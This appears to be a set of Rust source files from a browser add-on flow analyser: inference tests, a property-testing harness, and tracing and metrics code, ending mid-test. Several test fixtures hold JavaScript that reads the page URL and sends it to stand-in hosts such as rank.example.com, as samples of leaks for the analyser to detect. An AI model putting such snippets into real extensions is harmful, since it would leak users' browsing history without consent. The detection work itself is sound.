    fn t(n: u8) -> FlowType {
        FlowType(n - 1)
    }

    #[test]
    fn explicit_url_leak_is_type1() {
        // The paper's first Section 2 example, LivePageRank-style.
        let sig = infer(
            r#"
var url = content.location.href;
var req = new XMLHttpRequest();
req.open("GET", "http://rank.example.com/q?u=" + url);
req.send(null);
"#,
        );
        let entries: Vec<&FlowEntry> = sig.flows_to(&SinkKind::Send).collect();
        assert!(
            entries
                .iter()
                .any(|e| e.source == SourceKind::Url && e.flow == t(1)),
            "expected url --type1--> send, got:\n{sig}"
        );
        // Domain inferred as the fixed prefix.
        assert!(entries.iter().any(|e| e
            .sink
            .domain
            .known_text()
            .is_some_and(|d| d.starts_with("http://rank.example.com/q?"))));
    }

    #[test]
    fn implicit_flow_is_control_typed() {
        // The paper's second Section 2 example: branch on the URL, send a
        // constant. Information flows via control dependence only.
        let sig = infer(
            r#"
window.addEventListener("load", function check(e) {
  var seen = false;
  if (content.location.href == "sensitive.com")
    seen = true;
  var request = XHRWrapper("http://public.example.com");
  request.send(seen);
}, false);
"#,
        );
        let entries: Vec<&FlowEntry> = sig
            .flows_to(&SinkKind::Send)
            .filter(|e| e.source == SourceKind::Url)
            .collect();
        assert!(!entries.is_empty(), "implicit flow missed:\n{sig}");
        // Everything runs inside the event loop, so the flow is amplified
        // local control: type3.
        assert!(
            entries.iter().any(|e| e.flow == t(3)),
            "expected amplified local (type3), got:\n{sig}"
        );
        // No spurious strong-data flow.
        assert!(entries.iter().all(|e| e.flow != t(1)));
    }

    #[test]
    fn no_source_no_flow_entries() {
        let sig = infer(
            r#"
var req = new XMLHttpRequest();
req.open("GET", "http://static.example.com/ping");
req.send("hello");
"#,
        );
        assert!(
            sig.flows.is_empty(),
            "constant send should produce no flow entries:\n{sig}"
        );
    }

    #[test]
    fn api_usage_reported_even_without_flows() {
        let sig = infer("eval(\"1\");");
        assert!(sig.apis.contains("eval"));
    }

    #[test]
    fn unreachable_code_not_reported() {
        let sig = infer(
            r#"
function dead() {
  var u = content.location.href;
  var r = XHRWrapper("http://never.example.com");
  r.send(u);
}
"#,
        );
        // `dead` is never called nor registered: nothing to report.
        assert!(sig.flows.is_empty(), "unreachable flow reported:\n{sig}");
    }

    #[test]
    fn provenance_paths_start_at_the_source_and_end_at_the_sink() {
        let sig = infer(
            r#"
var url = content.location.href;
var req = new XMLHttpRequest();
req.open("GET", "http://rank.example.com/q?u=" + url);
req.send(null);
"#,
        );
        let entry = sig
            .flows_to(&SinkKind::Send)
            .find(|e| e.source == SourceKind::Url && e.flow == t(1))
            .cloned()
            .expect("url --type1--> send inferred");
        let path = sig.provenance.get(&entry).expect("flow has provenance");
        assert!(path.len() >= 2, "a flow path spans at least source and sink");
        let first = path.first().unwrap();
        let last = path.last().unwrap();
        assert_eq!(first.line, 2, "path starts at the source read");
        assert!(first.edge.is_some(), "inner steps carry edge annotations");
        assert!(last.edge.is_none(), "the sink ends the path");
        assert!(
            path.iter().take(path.len() - 1).all(|s| s.edge.is_some()),
            "every non-final step records its outgoing edge"
        );
    }

    #[test]
    fn witnesses_point_at_source_lines() {
        let sig = infer(
            r#"
var u = content.location.href;
var req = XHRWrapper("http://x.example.com");
req.send(u);
"#,
        );
        let entry = sig
            .flows_to(&SinkKind::Send)
            .find(|e| e.source == SourceKind::Url)
            .cloned()
            .expect("flow inferred");
        let ws = &sig.witnesses[&entry];
        assert!(!ws.is_empty());
        let (src_span, sink_span) = ws[0];
        assert_eq!(src_span.line, 2);
        assert_eq!(sink_span.line, 4);
    }
}
