//! A tiny, deterministic property-testing harness.
//!
//! The workspace's randomized suites (lattice laws, postdominance
//! brute-force comparison, whole-pipeline fuzzing) originally used
//! `proptest`, which pulls a large dependency tree and breaks airgapped
//! builds. The suites only need three things: a seeded generator, many
//! cases, and a reproducible failure report — so this crate provides
//! exactly that over `std`.
//!
//! Generation is driven by [`Gen`], a splitmix64/xorshift-style PRNG with
//! convenience samplers. [`check`] runs a property over `cases` seeds
//! derived deterministically from the property name, so failures
//! reproduce without any persisted regression files.

#![warn(missing_docs)]

/// Deterministic random generator handed to properties.
pub struct Gen {
    state: u64,
}

impl Gen {
    /// Creates a generator from a seed. Seed 0 is remapped (xorshift has
    /// a fixed point at 0).
    pub fn new(seed: u64) -> Gen {
        Gen {
            state: splitmix(seed.wrapping_add(0x9e37_79b9_7f4a_7c15)),
        }
    }

    /// The next raw 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        // xorshift64*
        let mut x = self.state;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.state = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// A uniform bool.
    pub fn bool(&mut self) -> bool {
        self.next_u64() & 1 == 1
    }

    /// A uniform usize in `[0, n)`. Panics if `n == 0`.
    pub fn below(&mut self, n: usize) -> usize {
        assert!(n > 0, "Gen::below(0)");
        (self.next_u64() % n as u64) as usize
    }

    /// A uniform i64 in `[lo, hi)`. Panics on an empty range.
    pub fn range(&mut self, lo: i64, hi: i64) -> i64 {
        assert!(lo < hi, "Gen::range empty");
        lo + self.below((hi - lo) as usize) as i64
    }

    /// A uniform element of a non-empty slice.
    pub fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len())]
    }

    /// A string of length `[0, max_len]` over the given alphabet.
    pub fn string_of(&mut self, alphabet: &[char], max_len: usize) -> String {
        let len = self.below(max_len + 1);
        (0..len).map(|_| *self.pick(alphabet)).collect()
    }

    /// A vector of `len in [min_len, max_len]` elements drawn from `f`.
    pub fn vec_of<T>(
        &mut self,
        min_len: usize,
        max_len: usize,
        mut f: impl FnMut(&mut Gen) -> T,
    ) -> Vec<T> {
        let len = min_len + self.below(max_len - min_len + 1);
        (0..len).map(|_| f(self)).collect()
    }
}

fn splitmix(mut x: u64) -> u64 {
    x ^= x >> 30;
    x = x.wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x ^= x >> 27;
    x = x.wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^= x >> 31;
    if x == 0 {
        1
    } else {
        x
    }
}

/// Runs `property` for `cases` deterministic seeds. On a panic inside the
/// property, re-raises with the property name and failing seed so the
/// case can be re-run in isolation with [`Gen::new`].
pub fn check(name: &str, cases: u64, property: impl Fn(&mut Gen) + std::panic::RefUnwindSafe) {
    // Derive the base seed from the property name so distinct properties
    // explore distinct streams even at equal case indices.
    let base = name
        .bytes()
        .fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
            (h ^ b as u64).wrapping_mul(0x100_0000_01b3)
        });
    for case in 0..cases {
        let seed = splitmix(base ^ case);
        let result = std::panic::catch_unwind(|| {
            let mut g = Gen::new(seed);
            property(&mut g);
        });
        if let Err(payload) = result {
            let msg = payload
                .downcast_ref::<String>()
                .map(String::as_str)
                .or_else(|| payload.downcast_ref::<&str>().copied())
                .unwrap_or("<non-string panic>");
            panic!("property '{name}' failed at case {case} (Gen::new({seed:#x})): {msg}");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_streams() {
        let mut a = Gen::new(7);
        let mut b = Gen::new(7);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn samplers_stay_in_bounds() {
        let mut g = Gen::new(42);
        for _ in 0..1000 {
            assert!(g.below(7) < 7);
            let r = g.range(-3, 4);
            assert!((-3..4).contains(&r));
            let s = g.string_of(&['a', 'b'], 4);
            assert!(s.len() <= 4 && s.chars().all(|c| c == 'a' || c == 'b'));
            let v = g.vec_of(1, 3, |g| g.bool());
            assert!((1..=3).contains(&v.len()));
        }
    }

    #[test]
    fn check_runs_all_cases() {
        use std::sync::atomic::{AtomicU64, Ordering};
        static RAN: AtomicU64 = AtomicU64::new(0);
        check("counter", 25, |_| {
            RAN.fetch_add(1, Ordering::SeqCst);
        });
        assert_eq!(RAN.load(Ordering::SeqCst), 25);
    }

    #[test]
    fn check_reports_seed_on_failure() {
        let failure = std::panic::catch_unwind(|| {
            check("always-fails", 3, |_| panic!("boom"));
        })
        .unwrap_err();
        let msg = failure.downcast_ref::<String>().unwrap();
        assert!(msg.contains("always-fails"), "{msg}");
        assert!(msg.contains("Gen::new("), "{msg}");
        assert!(msg.contains("boom"), "{msg}");
    }
}
