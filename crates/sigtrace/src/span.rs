//! The `Tracer` sink trait, the `Trace` handle the pipeline threads
//! through its phases, and the in-memory `SpanCollector`.

use crate::counter::{Counter, Counters};
use std::time::Instant;

/// Sink for pipeline trace events: hierarchical spans and counter
/// deltas.
///
/// Every method has a no-op default, so an implementation only
/// overrides what it cares about. Implementations must tolerate
/// `span_end` names they never saw started (a phase that aborts on a
/// budget still closes its spans in reverse order, but defensive sinks
/// should not panic on protocol slips).
pub trait Tracer {
    /// A named region begins. Spans nest strictly: the matching
    /// [`span_end`](Tracer::span_end) arrives before the parent's.
    fn span_start(&mut self, _name: &str) {}

    /// The innermost open region named `name` ends.
    fn span_end(&mut self, _name: &str) {}

    /// Adds `delta` to a pipeline counter.
    fn add(&mut self, _counter: Counter, _delta: u64) {}

    /// Flushes a whole batch of locally-accumulated counters at once.
    ///
    /// The phases accumulate counters in plain integers and flush once
    /// per phase, so even an enabled tracer never adds dispatch to the
    /// fixpoint loop. The default forwards to [`add`](Tracer::add).
    fn add_counters(&mut self, counters: &Counters) {
        for (c, v) in counters.iter() {
            if v != 0 {
                self.add(c, v);
            }
        }
    }
}

/// A `Tracer` that ignores everything (the trait defaults, reified).
#[derive(Debug, Clone, Copy, Default)]
pub struct NoopTracer;

impl Tracer for NoopTracer {}

/// The handle the pipeline passes around.
///
/// An enum, not a `&mut dyn Tracer`, so that the disabled path is a
/// branch on the discriminant rather than a virtual call: with
/// [`Trace::Off`] every hook compiles to one predictable test. The
/// pipeline additionally keeps its hot-loop counters in plain integer
/// fields and flushes them per phase, so the handle is only touched at
/// phase granularity anyway.
#[derive(Default)]
pub enum Trace<'a> {
    /// Tracing disabled; every hook is a no-op branch.
    #[default]
    Off,
    /// Tracing enabled; events forward to the sink.
    On(&'a mut dyn Tracer),
}

impl<'a> Trace<'a> {
    /// Wraps a sink in an enabled handle.
    pub fn on(tracer: &'a mut dyn Tracer) -> Trace<'a> {
        Trace::On(tracer)
    }

    /// Whether events will be observed (lets callers skip work that
    /// only exists to be traced, e.g. tallying PDG edges by kind).
    #[inline]
    pub fn is_enabled(&self) -> bool {
        matches!(self, Trace::On(_))
    }

    /// Opens a named span.
    #[inline]
    pub fn span_start(&mut self, name: &str) {
        if let Trace::On(t) = self {
            t.span_start(name);
        }
    }

    /// Closes the innermost open span named `name`.
    #[inline]
    pub fn span_end(&mut self, name: &str) {
        if let Trace::On(t) = self {
            t.span_end(name);
        }
    }

    /// Adds `delta` to one counter.
    #[inline]
    pub fn add(&mut self, counter: Counter, delta: u64) {
        if let Trace::On(t) = self {
            t.add(counter, delta);
        }
    }

    /// Flushes a batch of locally-accumulated counters.
    #[inline]
    pub fn add_counters(&mut self, counters: &Counters) {
        if let Trace::On(t) = self {
            t.add_counters(counters);
        }
    }
}

/// One completed (or still open) span recorded by [`SpanCollector`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpanRecord {
    /// Span name as passed to `span_start`.
    pub name: String,
    /// Nesting depth (0 = top level).
    pub depth: usize,
    /// Start offset from the collector's epoch, in microseconds.
    pub start_us: u64,
    /// Duration in microseconds (0 until the span ends).
    pub dur_us: u64,
}

/// Records hierarchical spans (with wall-clock timings) and pipeline
/// [`Counters`] in memory.
///
/// Counters are deterministic (see the crate docs); span timings are
/// not, which is why the golden tests compare counter totals only.
#[derive(Debug)]
pub struct SpanCollector {
    epoch: Instant,
    /// Indices into `spans` of the currently-open spans, outermost
    /// first.
    open: Vec<usize>,
    spans: Vec<SpanRecord>,
    counters: Counters,
}

impl Default for SpanCollector {
    fn default() -> SpanCollector {
        SpanCollector::new()
    }
}

impl SpanCollector {
    /// An empty collector; the epoch (t=0) is now.
    pub fn new() -> SpanCollector {
        SpanCollector {
            epoch: Instant::now(),
            open: Vec::new(),
            spans: Vec::new(),
            counters: Counters::new(),
        }
    }

    /// Completed and open spans, in start order.
    pub fn spans(&self) -> &[SpanRecord] {
        &self.spans
    }

    /// Accumulated counters.
    pub fn counters(&self) -> &Counters {
        &self.counters
    }

    fn now_us(&self) -> u64 {
        u64::try_from(self.epoch.elapsed().as_micros()).unwrap_or(u64::MAX)
    }
}

impl Tracer for SpanCollector {
    fn span_start(&mut self, name: &str) {
        let start_us = self.now_us();
        self.open.push(self.spans.len());
        self.spans.push(SpanRecord {
            name: name.to_owned(),
            depth: self.open.len() - 1,
            start_us,
            dur_us: 0,
        });
    }

    fn span_end(&mut self, name: &str) {
        // Close the innermost open span with this name; tolerate (and
        // drop) unmatched ends rather than panicking mid-analysis.
        let Some(pos) = self
            .open
            .iter()
            .rposition(|&i| self.spans[i].name == name)
        else {
            debug_assert!(false, "span_end({name}) without a matching span_start");
            return;
        };
        let idx = self.open.remove(pos);
        debug_assert_eq!(pos, self.open.len(), "spans must close innermost-first");
        let end = self.now_us();
        self.spans[idx].dur_us = end.saturating_sub(self.spans[idx].start_us);
    }

    fn add(&mut self, counter: Counter, delta: u64) {
        self.counters.add(counter, delta);
    }

    fn add_counters(&mut self, counters: &Counters) {
        self.counters.merge(counters);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn off_handle_ignores_everything() {
        let mut t = Trace::Off;
        assert!(!t.is_enabled());
        t.span_start("x");
        t.add(Counter::WorklistSteps, 1);
        t.span_end("x");
    }

    #[test]
    fn collector_records_nested_spans_and_counters() {
        let mut c = SpanCollector::new();
        {
            let mut t = Trace::on(&mut c);
            assert!(t.is_enabled());
            t.span_start("pipeline");
            t.span_start("phase1");
            t.add(Counter::WorklistSteps, 41);
            t.add(Counter::WorklistSteps, 1);
            t.span_end("phase1");
            let mut batch = Counters::new();
            batch.add(Counter::StateJoins, 7);
            t.add_counters(&batch);
            t.span_end("pipeline");
        }
        let spans = c.spans();
        assert_eq!(spans.len(), 2);
        assert_eq!(spans[0].name, "pipeline");
        assert_eq!(spans[0].depth, 0);
        assert_eq!(spans[1].name, "phase1");
        assert_eq!(spans[1].depth, 1);
        // The child is contained in the parent.
        assert!(spans[1].start_us >= spans[0].start_us);
        assert!(spans[1].start_us + spans[1].dur_us <= spans[0].start_us + spans[0].dur_us);
        assert_eq!(c.counters().get(Counter::WorklistSteps), 42);
        assert_eq!(c.counters().get(Counter::StateJoins), 7);
    }

    #[test]
    fn same_name_spans_close_innermost_first() {
        let mut c = SpanCollector::new();
        c.span_start("propagate");
        c.span_start("propagate");
        c.span_end("propagate");
        c.span_end("propagate");
        assert_eq!(c.spans().len(), 2);
        assert_eq!(c.spans()[0].depth, 0);
        assert_eq!(c.spans()[1].depth, 1);
    }
}
