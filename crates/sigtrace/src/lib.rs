//! Observability for the signature-inference pipeline.
//!
//! The paper's evaluation (Table 2) reports three coarse per-phase wall
//! times, and for a batch tool that is enough. Run the same pipeline as
//! a long-lived vetting daemon and the questions change: why was this
//! addon slow, why did it time out, which statements carried the flow
//! that produced this verdict. This crate is the measurement substrate
//! for those questions, kept deliberately free of dependencies so the
//! analysis crates can thread it through their hot paths:
//!
//! * [`Tracer`] — the event sink trait (hierarchical spans + counter
//!   deltas), with no-op defaults. Shipped impls: [`SpanCollector`]
//!   (records spans and [`Counters`] in memory) and
//!   [`ChromeTraceWriter`] (emits `chrome://tracing` / Perfetto
//!   compatible `trace_event` JSON).
//! * [`Trace`] — the handle the pipeline actually passes around. It is
//!   an enum, so the disabled path is a branch on a discriminant, not a
//!   virtual call: `Trace::Off` costs one predictable-not-taken test.
//! * [`Counter`] / [`Counters`] — the fixed set of pipeline counters
//!   (worklist steps, state joins, heap CoW clones, PDG edges by kind,
//!   flow-lattice raises). Counters are accumulated locally by each
//!   phase and flushed once per phase, so even an enabled tracer adds
//!   no per-step dispatch to the fixpoint loop.
//! * [`MetricsRegistry`] — named monotonic counters and fixed
//!   log₂-bucket [`Histogram`]s for the daemon: shared via atomics, so
//!   worker threads feed one registry without locking on the hot path.
//! * [`Attribution`] / [`AttributionSink`] / [`JobProfile`] — per-job
//!   cost attribution: which `(function, context class, phase)` buckets
//!   ate the worklist budget. Same discriminant-branch shape as
//!   [`Trace`]; the data behind timeout postmortems and `vet profile`.
//!
//! Determinism contract: every counter is deterministic for a fixed
//! source and configuration, including across sequential/parallel
//! corpus sweeps. Counters classified [`Counter::order_independent`]
//! are additionally identical across worklist orders (FIFO vs RPO).
//! That subset is smaller than "everything measured after phase 1":
//! strong updates under the recency abstraction are non-monotone, so
//! different worklist orders can settle on slightly different — equally
//! sound — abstract states, and anything derived from the state's
//! may-alias facts (data-dependence edge tallies, flow propagation
//! work) inherits that sensitivity. See [`Counter::order_independent`]
//! for the precise classification.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

mod attr;
mod chrome;
mod counter;
mod metrics;
mod span;

pub use attr::{ctx_class_name, Attribution, AttributionSink, FuncCost, JobProfile, CTX_CLASSES};
pub use chrome::ChromeTraceWriter;
pub use counter::{Counter, Counters};
pub use metrics::{HistogramSnapshot, MetricsRegistry, MetricsSnapshot, HISTOGRAM_BUCKETS};
pub use metrics::Histogram;
pub use span::{NoopTracer, SpanCollector, SpanRecord, Trace, Tracer};

use std::time::Duration;

/// Wall-clock time spent in each of the paper's three analysis phases.
///
/// One type used end-to-end — the library [`Report`], the service
/// `VetOutcome`, and the wire protocol all carry this instead of three
/// loose `Duration` fields (the wire encoding itself lives next to the
/// protocol, in `sigserve`).
///
/// [`Report`]: https://docs.rs/addon-sig
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct PhaseTimings {
    /// Phase 1: the abstract-interpretation base analysis.
    pub p1: Duration,
    /// Phase 2: building the annotated program dependence graph.
    pub p2: Duration,
    /// Phase 3: flow-type propagation and signature inference.
    pub p3: Duration,
}

impl PhaseTimings {
    /// Bundles the three phase durations.
    pub fn new(p1: Duration, p2: Duration, p3: Duration) -> PhaseTimings {
        PhaseTimings { p1, p2, p3 }
    }

    /// Total analysis time across the three phases.
    pub fn total(&self) -> Duration {
        self.p1 + self.p2 + self.p3
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn phase_timings_total_sums_the_phases() {
        let t = PhaseTimings::new(
            Duration::from_micros(10),
            Duration::from_micros(20),
            Duration::from_micros(30),
        );
        assert_eq!(t.total(), Duration::from_micros(60));
        assert_eq!(PhaseTimings::default().total(), Duration::ZERO);
    }
}
