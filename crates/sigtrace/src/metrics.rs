//! A process-wide metrics registry for the vetting daemon: named
//! monotonic counters and fixed log₂-bucket histograms.
//!
//! The registry is shared across worker threads. Lookups take a brief
//! `Mutex` on the name table, but the returned handles are `Arc`-shared
//! atomics, so steady-state recording is lock-free — workers resolve
//! their handles once (or use the convenience methods, whose lock is
//! still far off any analysis hot path).

use crate::counter::Counters;
use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// Number of histogram buckets. Bucket `i > 0` counts values `v` with
/// `2^(i-1) <= v < 2^i`; bucket 0 counts `v == 0`; the last bucket
/// absorbs everything `>= 2^(HISTOGRAM_BUCKETS-2)` (with microsecond
/// values, that is ≳ 18 minutes — effectively "too long").
pub const HISTOGRAM_BUCKETS: usize = 32;

/// A histogram with fixed log₂-scale buckets plus exact count and sum.
///
/// All fields are atomics: recording is a relaxed fetch-add, and two
/// histograms recorded on different threads merge by addition (see
/// [`HistogramSnapshot::merge`]).
#[derive(Debug, Default)]
pub struct Histogram {
    count: AtomicU64,
    sum: AtomicU64,
    buckets: [AtomicU64; HISTOGRAM_BUCKETS],
}

/// The bucket a value falls into.
fn bucket_index(v: u64) -> usize {
    if v == 0 {
        0
    } else {
        ((v.ilog2() as usize) + 1).min(HISTOGRAM_BUCKETS - 1)
    }
}

impl Histogram {
    /// An empty histogram.
    pub fn new() -> Histogram {
        Histogram::default()
    }

    /// Records one observation.
    pub fn record(&self, v: u64) {
        self.count.fetch_add(1, Ordering::Relaxed);
        self.sum.fetch_add(v, Ordering::Relaxed);
        self.buckets[bucket_index(v)].fetch_add(1, Ordering::Relaxed);
    }

    /// A point-in-time copy of the histogram.
    pub fn snapshot(&self, name: &str) -> HistogramSnapshot {
        HistogramSnapshot {
            name: name.to_owned(),
            count: self.count.load(Ordering::Relaxed),
            sum: self.sum.load(Ordering::Relaxed),
            buckets: std::array::from_fn(|i| self.buckets[i].load(Ordering::Relaxed)),
        }
    }
}

/// A point-in-time copy of one [`Histogram`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HistogramSnapshot {
    /// Registry name of the histogram.
    pub name: String,
    /// Total number of observations.
    pub count: u64,
    /// Sum of all observed values (mean = `sum / count`).
    pub sum: u64,
    /// Per-bucket observation counts (see [`HISTOGRAM_BUCKETS`]).
    pub buckets: [u64; HISTOGRAM_BUCKETS],
}

impl HistogramSnapshot {
    /// Exclusive upper bound of bucket `i` (`None` for the overflow
    /// bucket).
    pub fn bucket_limit(i: usize) -> Option<u64> {
        if i + 1 >= HISTOGRAM_BUCKETS {
            None
        } else {
            Some(1u64 << i)
        }
    }

    /// Merges another snapshot of the *same* metric into this one
    /// (pointwise addition; snapshots from different threads or
    /// processes combine losslessly because the buckets are fixed).
    pub fn merge(&mut self, other: &HistogramSnapshot) {
        self.count += other.count;
        self.sum += other.sum;
        for (b, o) in self.buckets.iter_mut().zip(other.buckets.iter()) {
            *b += o;
        }
    }

    /// The `q`-quantile (`0.0 ..= 1.0`) as an **inclusive upper-bound
    /// estimate**.
    ///
    /// Bucket-upper-bound convention: the returned value is the largest
    /// value the bucket holding the quantile rank can contain — `0` for
    /// the zero bucket, `2^i − 1` for bucket `i` (which holds
    /// `[2^(i−1), 2^i)`), `u64::MAX` for the overflow bucket. The true
    /// quantile is never *above* the returned value, and the log₂
    /// layout keeps it within 2× below — what rate/trend reporting
    /// needs. Every `p50<=`-style rendering of this value should say
    /// so ("<=", not "=").
    ///
    /// One refinement: when **all** observations landed in a single
    /// bucket, the recorded `sum` pins the estimate down further. The
    /// other `count − 1` observations are each at least the bucket's
    /// lower bound, so no observation can exceed
    /// `sum − (count − 1) · lower`; a single-valued histogram (every
    /// observation equal) therefore reports the exact value instead of
    /// the inflated bucket cap (e.g. 100×`record(4)` → `Some(4)`,
    /// not `Some(7)`).
    ///
    /// `None` on an empty histogram and for NaN `q` (a NaN must not
    /// masquerade as `q = 0`); out-of-range finite `q` clamps to
    /// `0.0 ..= 1.0`.
    pub fn percentile(&self, q: f64) -> Option<u64> {
        if self.count == 0 || q.is_nan() {
            return None;
        }
        // Rank of the quantile observation, 1-based. `q = 0` still maps
        // to rank 1 (the minimum observation's bucket).
        let rank = ((q.clamp(0.0, 1.0) * self.count as f64).ceil() as u64).max(1);
        let mut cumulative = 0u64;
        for (i, &c) in self.buckets.iter().enumerate() {
            cumulative += c;
            if cumulative >= rank {
                let cap = match HistogramSnapshot::bucket_limit(i) {
                    Some(limit) => limit - 1,
                    None => u64::MAX,
                };
                return Some(self.refine_single_bucket(i, c, cap));
            }
        }
        // count > 0 guarantees some bucket reached the rank; tolerate a
        // torn snapshot (count raced ahead of the bucket increments).
        Some(u64::MAX)
    }

    /// Sum-based tightening of the bucket cap when every observation sits
    /// in bucket `i` (see [`HistogramSnapshot::percentile`]). Falls back
    /// to `cap` whenever the snapshot looks torn or wrapped.
    fn refine_single_bucket(&self, i: usize, in_bucket: u64, cap: u64) -> u64 {
        if in_bucket != self.count {
            return cap; // observations in other buckets: no single-bucket bound
        }
        let lower = if i == 0 { 0 } else { 1u64 << (i - 1) };
        let spread = self
            .count
            .checked_sub(1)
            .and_then(|n| n.checked_mul(lower))
            .and_then(|floor| self.sum.checked_sub(floor));
        match spread {
            // A valid single-bucket snapshot has every value >= lower,
            // so spread >= lower too; anything else is a torn/wrapped
            // sum (sum wraps mod 2^64 by design) — keep the safe cap.
            Some(s) if i == 0 || s >= lower => s.min(cap),
            _ => cap,
        }
    }
}

/// A point-in-time copy of a whole [`MetricsRegistry`].
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct MetricsSnapshot {
    /// `(name, value)` for every registered counter, name-sorted.
    pub counters: Vec<(String, u64)>,
    /// Snapshot of every registered histogram, name-sorted.
    pub histograms: Vec<HistogramSnapshot>,
}

/// Named monotonic counters and histograms, shared across threads.
#[derive(Debug, Default)]
pub struct MetricsRegistry {
    counters: Mutex<BTreeMap<String, Arc<AtomicU64>>>,
    histograms: Mutex<BTreeMap<String, Arc<Histogram>>>,
}

impl MetricsRegistry {
    /// An empty registry.
    pub fn new() -> MetricsRegistry {
        MetricsRegistry::default()
    }

    /// Handle to the counter named `name`, creating it at zero. Cache
    /// the handle when recording from a hot loop.
    pub fn counter(&self, name: &str) -> Arc<AtomicU64> {
        let mut counters = self.counters.lock().unwrap_or_else(|e| e.into_inner());
        match counters.get(name) {
            Some(c) => Arc::clone(c),
            None => {
                let c = Arc::new(AtomicU64::new(0));
                counters.insert(name.to_owned(), Arc::clone(&c));
                c
            }
        }
    }

    /// Adds `delta` to the counter named `name`.
    pub fn add(&self, name: &str, delta: u64) {
        self.counter(name).fetch_add(delta, Ordering::Relaxed);
    }

    /// Handle to the histogram named `name`, creating it empty.
    pub fn histogram(&self, name: &str) -> Arc<Histogram> {
        let mut histograms = self.histograms.lock().unwrap_or_else(|e| e.into_inner());
        match histograms.get(name) {
            Some(h) => Arc::clone(h),
            None => {
                let h = Arc::new(Histogram::new());
                histograms.insert(name.to_owned(), Arc::clone(&h));
                h
            }
        }
    }

    /// Records one observation into the histogram named `name`.
    pub fn record(&self, name: &str, v: u64) {
        self.histogram(name).record(v);
    }

    /// Folds one pipeline run's [`Counters`] into the registry, keyed
    /// by [`Counter::name`](crate::Counter::name) under a `pipeline_`
    /// prefix.
    pub fn merge_counters(&self, counters: &Counters) {
        for (c, v) in counters.iter() {
            if v != 0 {
                self.add(&format!("pipeline_{}", c.name()), v);
            }
        }
    }

    /// A point-in-time copy of every metric.
    pub fn snapshot(&self) -> MetricsSnapshot {
        let counters = {
            let map = self.counters.lock().unwrap_or_else(|e| e.into_inner());
            map.iter()
                .map(|(name, c)| (name.clone(), c.load(Ordering::Relaxed)))
                .collect()
        };
        let histograms = {
            let map = self.histograms.lock().unwrap_or_else(|e| e.into_inner());
            map.iter().map(|(name, h)| h.snapshot(name)).collect()
        };
        MetricsSnapshot { counters, histograms }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Counter;

    #[test]
    fn bucket_index_is_log2_with_zero_and_overflow_buckets() {
        assert_eq!(bucket_index(0), 0);
        assert_eq!(bucket_index(1), 1);
        assert_eq!(bucket_index(2), 2);
        assert_eq!(bucket_index(3), 2);
        assert_eq!(bucket_index(4), 3);
        assert_eq!(bucket_index(1023), 10);
        assert_eq!(bucket_index(1024), 11);
        assert_eq!(bucket_index(u64::MAX), HISTOGRAM_BUCKETS - 1);
        assert_eq!(HistogramSnapshot::bucket_limit(0), Some(1));
        assert_eq!(HistogramSnapshot::bucket_limit(10), Some(1024));
        assert_eq!(HistogramSnapshot::bucket_limit(HISTOGRAM_BUCKETS - 1), None);
    }

    #[test]
    fn histogram_counts_sums_and_merges() {
        let h = Histogram::new();
        for v in [0, 1, 3, 1000, 1_000_000] {
            h.record(v);
        }
        let snap = h.snapshot("lat_us");
        assert_eq!(snap.count, 5);
        assert_eq!(snap.sum, 1_001_004);
        assert_eq!(snap.buckets.iter().sum::<u64>(), 5);
        assert_eq!(snap.buckets[0], 1);

        let mut merged = snap.clone();
        merged.merge(&snap);
        assert_eq!(merged.count, 10);
        assert_eq!(merged.sum, 2_002_008);
        assert_eq!(merged.buckets[0], 2);
    }

    #[test]
    fn bucket_boundaries_are_exact_powers_of_two() {
        // Exhaustive boundary sweep: for every finite bucket i >= 1, the
        // lower bound 2^(i-1) lands in bucket i and the value just below
        // it in bucket i-1.
        for i in 1..HISTOGRAM_BUCKETS - 1 {
            let lo = 1u64 << (i - 1);
            assert_eq!(bucket_index(lo), i, "2^{} must open bucket {i}", i - 1);
            assert_eq!(bucket_index(lo - 1), i - 1, "2^{}-1 must close bucket {}", i - 1, i - 1);
        }
        // The overflow bucket starts exactly at 2^(HISTOGRAM_BUCKETS-2).
        let overflow_lo = 1u64 << (HISTOGRAM_BUCKETS - 2);
        assert_eq!(bucket_index(overflow_lo), HISTOGRAM_BUCKETS - 1);
        assert_eq!(bucket_index(overflow_lo - 1), HISTOGRAM_BUCKETS - 2);
    }

    #[test]
    fn extreme_values_zero_one_and_u64_max() {
        let h = Histogram::new();
        h.record(0);
        h.record(1);
        h.record(u64::MAX);
        let snap = h.snapshot("extremes");
        assert_eq!(snap.count, 3);
        assert_eq!(snap.buckets[0], 1, "0 goes to the zero bucket");
        assert_eq!(snap.buckets[1], 1, "1 goes to bucket [1,2)");
        assert_eq!(snap.buckets[HISTOGRAM_BUCKETS - 1], 1, "u64::MAX overflows");
        // sum wraps modulo 2^64 by design (relaxed fetch_add); the count
        // and buckets stay exact, which is what the percentiles use.
        assert_eq!(snap.sum, 0u64.wrapping_add(1).wrapping_add(u64::MAX));
    }

    #[test]
    fn percentile_on_empty_histogram_is_none() {
        let snap = Histogram::new().snapshot("empty");
        assert_eq!(snap.percentile(0.0), None);
        assert_eq!(snap.percentile(0.5), None);
        assert_eq!(snap.percentile(1.0), None);
    }

    #[test]
    fn percentile_on_single_bucket_histogram() {
        let h = Histogram::new();
        for _ in 0..100 {
            h.record(5); // bucket [4, 8)
        }
        let snap = h.snapshot("single");
        // Every quantile lives in the one occupied bucket; the estimate
        // is its inclusive upper bound.
